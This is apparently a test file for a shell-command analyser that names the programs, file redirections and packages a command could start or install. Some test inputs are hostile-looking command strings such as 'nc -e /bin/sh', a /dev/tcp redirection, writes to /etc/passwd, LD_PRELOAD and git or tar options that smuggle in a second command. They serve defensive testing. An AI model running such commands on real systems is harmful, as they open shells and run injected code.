import re
import shutil
import subprocess

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from execgate.analysis.shell import block, packages, programs, redirections, started_by
from execgate.model.operation import ProcessSpawn
from execgate.model.values import Hole, Template, Unknown

ANY, WORD, NUMBER = Hole.ANY, Hole.WORD, Hole.NUMBER


def brief(found):
    """Names as they are, `?` for what is unknown."""
    return ["?" if isinstance(name, Unknown) else str(name) for name in found]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", []),
        ("ls -la", ["ls"]),
        ("  ls\t-la  # rm x", ["ls"]),
        ("ls; cat x && echo a || rm b | wc & id\nwho", ["ls", "cat", "echo", "rm", "wc", "id", "who"]),
        ("l's' -la", ["ls"]),
        ('"/usr/bin/"ls', ["/usr/bin/ls"]),
        ("l\\s", ["ls"]),
        ("ls \\\n -la | \\\n wc", ["ls", "wc"]),
        ("ls\\\n -la", ["ls"]),
        ("A=1 B='x y' ls", ["ls"]),
        ("A=$(id) ls", ["id", "ls"]),
        ("echo $(rm x) `who`", ["rm", "who", "echo"]),
        ('echo "$(rm x) `who`"', ["rm", "who", "echo"]),
        ("echo '$(rm x)' \\$HOME \"\\$(rm)\"", ["echo"]),
        ("echo `echo \\`id\\``", ["id", "echo"]),
        ("echo ${x:-$(id)} ${#x} ${x%.*} $1 $@ $?", ["id", "echo"]),
        ("echo $((1 + 2))", ["echo"]),
        ("diff <(ls) >(cat)", ["ls", "cat", "diff"]),
        ("(cd x && ls); { who; }", ["ls", "who"]),
        ("if [ -f x ]; then a; elif b; then c; else d; fi", ["[", "a", "b", "c", "d"]),
        ("for i in *.txt; do rm $i; done", ["rm"]),
        ("for i\ndo rm $i; done", ["rm"]),
        ("while true; do sleep 1; done", ["true", "sleep"]),
        ("until a; do b; done", ["a", "b"]),
        ("case $x in a|b) rm;; (c) who ;; *) ls; esac", ["rm", "who", "ls"]),
        ("case x in esac; ls", ["ls"]),
        ("! ls", ["ls"]),
        ("time ls", ["time", "ls"]),
        ("time -p x=1 eval ls", ["time", "ls"]),
        ("f() { ls; }; f", ["ls"]),
        ("f() { rm; }\ng() { f; }\ng", ["rm"]),
        ("ls; f() { rm; }; f", ["ls", "rm"]),
        ("f() { ls; }& f", ["f", "ls"]),
        ("f() { ls; } | f", ["f", "ls"]),
        ("rm() { :; }; command rm", ["rm"]),
        ("cat <<EOF\n$(rm x) `who`\nEOF\nls", ["rm", "who", "cat", "ls"]),
        ("cat <<'EOF'\n$(rm x)\nEOF\nls", ["cat", "ls"]),
        ("cat <<-\\EOF\n\t`rm x`\n\tEOF\nls", ["cat", "ls"]),
        ("cat <<A; cat <<B\n1\nA\n2\nB\nls", ["cat", "ls"]),
        ("cat <<< $(id)", ["id", "cat"]),
        ("eval 'ls; rm' x", ["ls", "rm"]),
        ("eval ls '$(rm)'", ["rm", "ls"]),
        ("exec ls", ["ls"]),
        ("exec 3>x", []),
        ("command -v ls", []),
        ("command -p ls", ["ls"]),
        ("`echo ls`", ["echo", "ls"]),
        ("$(echo rm) x", ["echo", "rm"]),
        ('X=rm; $X x; "${X}dir" y', ["rm", "rmdir"]),
        ("f() { $1 x; }; f rm; f ls", ["rm", "ls"]),
        ("never() { rm; }", ["rm"]),
        ("if a; then X=ls; else X=rm; fi; $X", ["a", "ls", "rm"]),
        ("for p in ls rm; do $p; done", ["ls", "rm"]),
        ("trap 'rm x' EXIT; trap - INT", ["rm"]),
        ("cd x; export A=1; unset A; read line; set -e; umask 022; : ; exit 1", []),
        ("ls > out 2>&1", ["ls"]),
        ("> out", []),
    ],
)
def test_every_program_of_a_shell_text_is_named(text, expected):
    assert brief(programs(text)) == expected


@pytest.mark.parametrize(
    "text",
    [
        "$X",
        "${X:-ls}",
        "`cat x`",
        "$(cat x) x",
        "exec() { :; }; exec rm",
        "builtin eval ls",
        "~/bin/x",
        "~bob/x",
        "l*",
        "/bin/l?",
        "l[s]",
        "{ls,-la}",
        "eval $X",
        'eval "$X"',
        'eval "$(cat x)"',
        "trap $X EXIT",
        "exec $X",
        "command $X",
        ". ./x",
        "source x",
        "alias ls=rm",
        "hash -p /x ls",
        "enable -f x y",
        "declare -x PATH=/x",
        "let 'x[$(id)]=1'",
        "PATH=/x ls",
        "LD_PRELOAD=x ls",
        "PATH=/x; ls",
        "export PATH=/x",
        "export $X",
        "readonly IFS=x",
        "read PATH < x",
        "for PATH in x; do ls; done",
        ": ${PATH:=/x}",
        "BASH_ENV=x sh -c ls",
        "cd /tmp && ./x",
        "cd bin; bin/ls",
        "GIT_SSH_COMMAND=x git fetch",
        "PYTHONPATH=x ls",
        "[ -v 'a[$(id)]' ]",
        "printf -v x y",
        "echo $((x))",
        "echo $((a[$(id)]))",
        "echo $[1]",
        "((x = 1))",
        "for ((;;)); do ls; done",
        "[[ -f x ]]",
        "function f { ls; }",
        "select x in a; do ls; done",
        "coproc ls",
        "$'ls'",
        '$"ls"',
        "ls &> x",
        "case x in a) ls;& b) rm;; esac",
        "x=(1 2)",
        "x+=1 ls",
        "x[0]=1",
        "echo ${!x}",
        "echo ${x@P}",
        "echo ${x/a/b}",
        "ls > /dev/tcp/1.2.3.4/80",
        "echo 'open",
        'echo "open',
        "echo `open",
        "echo $(open",
        "echo ${open",
        "(ls",
        "ls)",
        "{ ls",
        "}",
        "fi; ;; ls",
        "ls \\",
        "cat <<EOF\nls",
        "cat <<$X\n$X\n",
        'echo "$\\\n(rm x)"',
        "echo $\\\n(rm x)",
        "$\\\nx ls",
        "PA\\\nTH=/x ls",
        "$(\\\n(x))",
        "(\\\n(x))",
        "cat <<EOF\nx\\\nEOF\nEOF\n",
        "echo (ls)",
        "$(" * 10_000,
        "(" * 10_000,
        "`" * 10_001,
        "{ " * 10_000,
        "${x:-" * 10_000,
        "eval " * 1_000 + "$x",
        "a " * 500_000,
        "ls \ufdd0",
    ],
)
def test_what_a_shell_could_start_beside_is_unknown(text):
    assert "?" in brief(programs(text)), programs(text)


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["ls", "-la"], ["ls"]),
        (["/usr/bin/ls"], ["/usr/bin/ls"]),
        (["pip", "install", "x"], ["pip"]),
        (["cat", Unknown("x")], ["cat"]),
        (["env", "A=1", "-i", "ls"], ["env", "-i"]),
        (["env", "-i", "-u", "B", "A=1", "ls", "-S"], ["env", "ls"]),
        (["env"], ["env"]),
        (["/usr/bin/env", "nice", "-n", "5", "ls"], ["/usr/bin/env", "nice", "ls"]),
        (["nohup", "setsid", "-f", "ls"], ["nohup", "setsid", "ls"]),
        (["timeout", "-k", "3", "--signal=KILL", "5", "ls"], ["timeout", "ls"]),
        (["stdbuf", "-oL", "ls"], ["stdbuf", "ls"]),
        (["ionice", "-c3", "ls"], ["ionice", "ls"]),
        (["sudo", "-u", "bob", "-n", "ls"], ["sudo", "ls"]),
        (["su", "-c", "ls; rm"], ["su", "ls", "rm"]),
        (["strace", "-f", "-e", "open", "ls"], ["strace", "ls"]),
        (["git", "push", "-u", "origin", "main"], ["git"]),
        (["git", "status", "-s"], ["git"]),
        (["gcc", "-O2", "-o", "x", "x.c"], ["gcc"]),
        (["busybox", "rm", "x"], ["busybox", "rm"]),
        (["xargs"], ["xargs", "echo"]),
        (["xargs", "-0", "-n", "1", "rm", "-f"], ["xargs", "rm"]),
        (["find", ".", "-name", "x"], ["find"]),
        (["find", ".", "-exec", "rm", "{}", ";", "-exec", "cat", "{}", "+"], ["find", "rm", "cat"]),
        (["find", ".", "-ok", "sh", "-c", "ls", ";"], ["find", "sh", "ls"]),
        (["sh", "-c", "ls | wc"], ["sh", "ls", "wc"]),
        (["bash", "-euo", "pipefail", "-c", "ls"], ["bash", "?"]),
        (["bash", "-eu", "-o", "pipefail", "-c", "ls"], ["bash", "ls"]),
        (["sh", "-c", "sh -c 'sh -c ls'"], ["sh", "ls"]),
        (["git", "status"], ["git"]),
        (["git", "-C", "x", "commit", "-m", "y"], ["git"]),
        (["git", "-c", "user.name=x", "log"], ["git"]),
        (["git", "-c", "core.pager=less -R", "log"], ["git", "less"]),
        (["git", "-c", "core.sshCommand=evil x", "fetch"], ["git", "evil"]),
        (["git", "-c", "alias.x=!rm y", "log"], ["git", "rm"]),
        (["tar", "xzf", "a.tgz"], ["tar"]),
        (["tar", "-I", "zstd -19", "-cf", "a", "b"], ["tar", "zstd"]),
        (["tar", "xf", "a", "--to-command=evil"], ["tar", "evil"]),
        (["rsync", "-av", "a", "b"], ["rsync"]),
        (["sed", "-n", "1,5p", "x"], ["sed"]),
        (["sed", "-i", "s/a/b/g; s|c|d|", "x"], ["sed"]),
        (["awk", "-F,", "{ print $1 }", "x"], ["awk"]),
        (["python3", "-m", "pip", "install", "x"], ["python3"]),
        (["python3.11", "--version"], ["python3.11"]),
        (["watch", "-n", "1", "ls", "|", "wc"], ["watch", "ls", "wc"]),
        (["script", "-qc", "ls", "x"], ["script", "ls"]),
        (["flock", "/x", "ls"], ["flock", "ls"]),
        (["/lib64/ld-linux-x86-64.so.2", "/bin/ls"], ["/lib64/ld-linux-x86-64.so.2", "/bin/ls"]),
        (["dd", "if=a", "of=b"], ["dd"]),
        (["npm", "install", "x"], ["npm"]),
        (["uv", "pip", "install", "x"], ["uv"]),
        (["apt-get", "install", "-y", "x"], ["apt-get"]),
        (["sort", "--compress-program", "evil", "x"], ["sort", "evil"]),
        ([], []),
    ],
)
def test_a_program_that_starts_another_names_it(argv, expected):
    assert brief(started_by(argv)) == expected


@pytest.mark.parametrize(
    "argv",
    [
        ["env", "-S", "rm x"], ["env", "-iS", "rm x"], ["env", "--split-string=rm x"], ["env", "PATH=/x", "ls"],
        ["env", Unknown("x")], ["env", "-z", "ls"], ["nice", Unknown("x"), "ls"], ["sudo", "-i"], ["sudo", "PATH=/x", "ls"],
        ["xargs", "sh", "-c"], ["xargs", "env"], ["xargs", "-I{}", "sh", "-c", "{}"], ["xargs", "python"],
        ["find", ".", "-exec", "{}", ";"], ["find", ".", "-exec", "sh", "-c", "rm {}", ";"], ["find", Unknown("x")],
        ["sh"], ["sh", "-s"], ["bash", "-l"], ["bash", "-i"], ["bash", "--rcfile", "x"], ["sh", Unknown("x")],
        ["sh", "-c", Unknown("x")], ["zsh", "-c", "ls"], ["python"], ["python", "-"], ["python", "-S", "x.py"], ["python", "-m", "x"],
        ["perl", "-e", "1"], ["ruby", "-e", "1"], ["node", "-e", "1"], ["node", "x.js"], ["perl5.36", "x"], ["pypy3", "-m", "x"],
        ["make"], ["cargo", "run"], ["npx", "x"], ["npm", "run", "x"], ["npm", "test"], ["uv", "run", "x"],
        ["vim", "-c", "!ls"], ["ssh", "host", "ls"], ["scp", "a", "b:c"], ["docker", "run", "x"], ["gdb", "x"],
        ["parallel", "ls"], ["crontab", "x"], ["systemctl", "start", "x"], ["socat", "a", "EXEC:b"],
        ["nc", "-e", "/bin/sh", "x", "1"], ["ncat", "--sh-exec", "x"], ["nc", "-le", "x"],
        ["git", "-c", "foo.bar=1", "log"], ["git", "-c", "alias.x=y", "x"], ["git", "x"], ["git", "--exec-path=/x", "log"],
        ["git", "clone", "ext::sh -c x"], ["git", "clone", "-u", "x", "y"], ["git", "clone", "--upload-pack=x", "y"],
        ["git", "rebase", "--exec", "x"], ["git", "bisect", "run", "x"], ["git", "config", "alias.x", "!y"],
        ["git", "grep", "-Oevil", "x"], ["git", "submodule", "foreach", "x"], ["git", "-c", Unknown("x"), "log"],
        ["git", "diff", "--ext-diff"], ["git", "-c", "core.hooksPath=x", "commit"],
        ["tar", "cf", "a", "--checkpoint-action=exec=x"], ["tar", "cf", "a", Unknown("x")], ["tar", "xIf", "x", "a"],
        ["tar", "-xIx", "-f", "a"], ["tar", "xf", "a", "--to-c=x"], ["tar", "--use-comp", "x"],
        ["rsync", "-ave", "x", "a", "b"], ["rsync", "host:x", "y"], ["rsync", "--rsync-path=x", "a", "b"],
        ["sed", "1e rm", "x"], ["sed", "s/a/b/e", "x"], ["sed", "w x"], ["sed", "-f", "x"], ["sed", Unknown("x")],
        ["sed", "s/[/]/p;s/x/y/e"], ["sed", "-n", "p", "--expression=e"], ["sed", "s/a/b/;" * 1000],
        ["awk", 'BEGIN { system("rm") }'], ["awk", '{ print | "rm" }'], ["awk", '"rm" | getline'], ["awk", "-f", "x"],
        ["awk", '@load "x"'], ["sqlite3", "x", ".shell ls"], ["sqlite3", "x"], ["psql", "-c", "\\! ls"], ["strace", "-o", "|rm", "ls"],
        ["strace", "-E", "PATH=/x", "ls"], ["script", "-c", "ls", "-c", "rm"], ["su", "-c", "ls", "-c", "rm"],
        ["chroot", "/x", "ls"], ["sh", "-c", "-", "rm"], ["sh", "+c", "ls"], ["env", "-C", "/x", "./ls"],
        ["git", "clone", "-qu", "x", "y"], ["git", "clone", "--u=x", "y"], ["git", "clone", "-ccore.sshCommand=x", "y"],
        ["git", "push", "--e=x"], ["git", "ls-remote", "--upl=x", "y"], ["tar", "cf", "host:x", "y"], ["gcc", "-wrapper", "x"],
        ["python", "-m", "pip", "--python", "x", "install", "y"], ["rg", "--pre", "sh -s", "y"], ["fd", "-x", "rm"],
        ["wget", "-euse_askpass=x", "y"], ["apt-get", "-yo", "x", "install", "y"], ["pandoc", "-L", "x"],
        ["apt-get", "-o", "APT::Update::Pre-Invoke::=ls", "update"], ["wget", "--use-askpass=sh -s", "y"],
        ["ld.so", "--preload", "x", "ls"], ["su"], ["su", "bob"], ["script"], [Unknown("x")], [""],
        [Template((ANY, "x"))], [Template((WORD,))], [Template(("python", NUMBER)), "x"], ["tar", "xf", Template((WORD,))],
        ["sh", "-c", Template(("ls ", WORD))], ["env"] * 100 + ["ls"],
    ],
)  # fmt: skip
def test_what_a_program_could_start_beside_is_unknown(argv):
    assert "?" in brief(started_by(argv)), started_by(argv)
    assert all(isinstance(name, Unknown) or str(name) for name in started_by(argv) if argv != [""])


@pytest.mark.parametrize(
    ("parts", "expected"),
    [
        (("sleep ", NUMBER), ["sleep"]),
        (("sleep ", NUMBER, "; ls"), ["sleep", "ls"]),
        (("kill -9 ", NUMBER), ["kill"]),
        (("echo '", NUMBER, "' \"", NUMBER, '"'), ["echo"]),
        (("prog", NUMBER, " x"), ["prog*", "?"]),
        (("cat ", WORD), ["cat", "?"]),
        (("cat '", WORD, "'"), ["?"]),
        (("cat ", ANY, "; ls"), ["cat", "?"]),
        (("cat # ", ANY), ["cat", "?"]),
        ((ANY, " ls"), ["?"]),
    ],
)
def test_only_a_number_can_be_put_into_a_shell_text(parts, expected):
    assert brief(programs(Template(parts))) == expected


def test_a_free_argument_that_can_not_be_an_option_leaves_the_programs_known():
    assert started_by(["tar", "xf", Template(("data/", WORD))]) == ("tar",)
    assert started_by(["sh", "-c", Template(("sleep ", NUMBER))]) == ("sh", "sleep")


def test_an_unknown_text_keeps_its_reason():
    why = Unknown("read from a file")
    assert programs(why) == (why,)
    assert redirections(why) == ()
    assert packages(why) == ()


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ls", []),
        ("ls > out", [("write", "out")]),
        ("ls >out 2>> 'err log' <in", [("write", "out"), ("append", "err log"), ("read", "in")]),
        ("ls >| out", [("write", "out")]),
        ("ls 3<> x", [("read", "x"), ("write", "x")]),
        ("ls >& out", [("write", "out")]),
        ("ls 2>&1 >&2 3>&- <&0", []),
        ("ls > /dev/null 2> /dev/stderr", []),
        ("{ ls; id; } > out", [("write", "out")]),
        ("while read x; do echo $x; done < in", [("read", "in")]),
        ("echo $(cat < secret)", [("read", "secret")]),
        ("echo `cat < secret`", [("read", "secret")]),
        ("cat <<EOF > out\n$(cat < secret)\nEOF\n", [("read", "secret"), ("write", "out")]),
        ("echo '> x' \"> y\" \\> z", []),
        ("> ~/x", [("write", "~/x")]),
        ("cd /etc && echo x > passwd", [("write", "/etc/passwd")]),
        ("cd /etc; echo x > passwd", [("write", "/etc/passwd"), ("write", "passwd")]),
        ("cd a; (cd b); echo x > c; echo x > /d", [("write", "a/c"), ("write", "c"), ("write", "/d")]),
        ("cd $X && echo x > y", [("write", "?")]),
        ("eval 'cd /etc' && echo x > passwd", [("write", "/etc/passwd")]),
        ("c\\d /etc && echo x > passwd", [("write", "/etc/passwd")]),
        ("set -e; cd /etc; echo x > passwd", [("write", "/etc/passwd")]),
        ("cd /etc || exit 1; echo x > passwd", [("write", "/etc/passwd")]),
        ("> $X", [("write", "?")]),
        ("> a*", [("write", "?")]),
        ("ls > out; echo $'x' > later", [("write", "out")]),
    ],
)
def test_redirections_name_the_files_that_the_shell_opens(text, expected):
    found = redirections(text)
    assert [(operation, *brief([path])) for operation, path in found] == expected


def test_a_number_in_a_redirection_keeps_its_hole():
    assert redirections(Template(("ls > out-", NUMBER, ".txt"))) == (
        ("write", Template(("out-", NUMBER, ".txt"))),
    )


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("ls", []),
        ("pip list", []),
        ("pip install requests", ["requests"]),
        ("pip3 install -U 'pandas==2.0' \"numpy[x]>=1,<2\" Pillow", ["pandas", "numpy", "Pillow"]),
        ("python -m pip install --upgrade pip", ["pip"]),
        ("python3.11 -I -m pip install x --target=/y", ["x"]),
        ("sudo -n env A=1 pip install x && pip install y", ["x", "y"]),
        ("sh -c 'pip install x'", ["x"]),
        ("pip install -r requirements.txt", ["?"]),
        ("pip install -rrequirements.txt", ["?"]),
        ("pip install -e .", ["?"]),
        ("pip install .", ["?"]),
        ("pip install ./x", ["?"]),
        ("pip install x.whl", ["?"]),
        ("pip install git+https://x.example/y", ["?"]),
        ("pip install 'x @ https://x.example/y'", ["?"]),
        ("pip install x -i https://x.example", ["x", "?"]),
        ("pip install --extra-index-url=https://x.example x", ["?", "x"]),
        ("pip --index-url=https://x.example install x", ["?", "x"]),
        ("pip install $X", ["?"]),
        ("pip install", ["?"]),
        ("uv pip install x", ["x"]),
        ("uv add x y", ["x", "y"]),
        ("conda install -y -n base numpy=1.26", ["numpy"]),
        ("conda install -c evil numpy", ["?", "numpy"]),
        ("apt-get install -y curl git=1:2", ["curl", "git"]),
        ("apt install ./x.deb", ["?"]),
        ("npm install left-pad @types/node@20", ["left-pad", "@types/node"]),
        ("npm i -g x", ["x"]),
        ("npm install", ["?"]),
        ("npm install https://x.example/y.tgz", ["?"]),
        ("npm install user/repo", ["?"]),
        (["pip", "install", "x", Unknown("y")], ["x", "?"]),
        (["pip", "install", Template(("x", NUMBER))], ["x*"]),
        (["ls", "pip", "install", "x"], []),
    ],
)
def test_what_an_installer_installs_is_named(command, expected):
    assert brief(packages(command)) == expected


FRAGMENTS = st.sampled_from(
    [
        *("aa", "bb ", "cc", " ", "\t", "\n", ";", "&&", "||", "|", "&", "(", ")", "{ ", "; }", "! ", "$(", "`", "'", '"'),
        *("\\", "\\\n", "# ", "$x", "${x:-", "}", "${#x}", "$((1", "))", "$", "x=", "x=1 ", "if ", "\nthen ", "\nfi", "; do "),
        *("\ndone", "for x in ", "case aa in ", "aa) ", ";;", "esac", "<<E\n", "<<'E'\n", "<<-E\n\t", "\nE\n", "E", "> f ", "2>&1"),
        *("< /dev/null ", "<(", ">(", "<<<", "ff() ", "ff", "eval ", "exec ", "command ", "trap ", " EXIT", "time ", "\\`"),
        *("\\$", '\\"', "elif ", "else ", "*", "{aa,bb}", "~", "[", "]", "&> f", "|& ", "[[ ", " ]]", "function ", "$'", "set aa "),
        *('"$(', ')"', '"`', '`"', "(aa)", "aa() { bb; }", "\r", "=", "+=", "in", "export x=", ": ", "env ", "nice "),
    ]
)  # fmt: skip
TEXTS = st.lists(FRAGMENTS, max_size=14).map("".join)
NOT_FOUND = re.compile(r": ([^:\s]+): (?:command )?not found$", re.MULTILINE)
SHELLS = [shell for shell in ("dash", "bash", "sh") if shutil.which(shell)]


def complaints(shell, text, folder):
    """Return what a shell says of a text where it finds no program at all."""
    done = subprocess.run(
        [shutil.which(shell), "-c", text],
        cwd=folder,
        env={"PATH": "/nonexistent", "LC_ALL": "C"},
        stdin=subprocess.DEVNULL,
        capture_output=True,
        timeout=10,
        check=False,
    )
    return done.stderr.decode(errors="replace")


@pytest.mark.parametrize("shell", SHELLS)
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=TEXTS)
@example(text="cat <<E\n`aa`\nE\n")
@example(text='echo "`echo \\"aa\\"`"')
@example(text="aa() { bb; }; aa")
@example(text="(aa() { :; }); aa")
@example(text='echo "$\\\n(aa)"')
@example(text="aa() { bb; }& aa")
@example(text="time x=1 eval aa")
def test_whatever_a_shell_tries_to_start_was_named_before(shell, text, tmp_path):
    said = complaints(shell, text, tmp_path)
    named = programs(text)
    if any(not re.fullmatch(r"[!-&(-9;-~]+", name) for name in brief(named)):
        return  # a message with blanks, colons or quotes in the name can't be taken apart
    tried = set(NOT_FOUND.findall(said))
    assert tried <= set(brief(named)) or "?" in brief(named), (tried, named)


BASH = st.sampled_from(
    [
        *("$'", '$"', "{aa,bb}", "{1..3}", "x=(aa bb)", "${x[@]}", "${x[0]}", "x+=", "[[ ", " ]]", "(( ", " ))", "&> f"),
        *("|& ", "<<<", "for ((i=0;i<2;i++)); do ", "function ff { aa; }\n", "declare ", "local ", "${x/a/b}", "${x:1:2}"),
        *("${!x[@]}", "\\x62", "\\n", "<(", "mapfile x", "readarray x", "builtin ", "let x=1", "${x^^}", "source "),
    ]
)  # fmt: skip
BLOCKS = st.lists(st.one_of(FRAGMENTS, BASH), max_size=14).map("".join)


@pytest.mark.parametrize("shell", [shell for shell in SHELLS if shell == "bash"])
@settings(max_examples=300, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(text=BLOCKS)
@example(text="x=(aa bb); ${x[1]}")
@example(text="{aa,bb}; $'\\x62b'")
@example(text="function ff { aa; }; ff")
@example(text="[[ $(aa) ]] && cat <(bb)")
def test_whatever_bash_tries_to_start_was_named_in_its_dialect(shell, text, tmp_path):
    said = complaints(shell, text, tmp_path)
    found = block(text, bash=True)
    fields = [dict(effect.fields) for effect in found.effects if effect.kind is ProcessSpawn]
    named = brief(name for spawned in fields for name in spawned["programs"])
    if any(not re.fullmatch(r"[!-&(-9;-~]+", name) for name in named):
        return  # a message with blanks, colons or quotes in the name can't be taken apart
    tried = set(NOT_FOUND.findall(said))
    assert tried <= set(named) or "?" in named or found.gaps, (tried, named)


@given(st.one_of(st.text(), TEXTS))
def test_every_text_has_an_answer(text):
    for found in (programs(text), packages(text)):
        assert all(isinstance(name, (str, Template, Unknown)) for name in found)
    redirections(text)


@given(st.lists(st.one_of(st.text(), FRAGMENTS, st.sampled_from(
    ["sh", "-c", "env", "find", "-exec", ";", "+", "{}", "xargs", "git", "tar", "sed", "pip", "install", "-e", "--", "-"]
))))  # fmt: skip
def test_every_argument_list_has_an_answer(argv):
    found = started_by(argv)
    assert bool(found) == bool(argv)
    packages(argv)


def test_a_megabyte_is_read_at_once():
    for piece in ("a ", ";", "'", "$(", "`", "\\", "<<a\n", "${a:-", "{ ", "a|", "\n", "<", '"'):
        programs(piece * (1_000_000 // len(piece)))
        programs(piece * (99_000 // len(piece)))
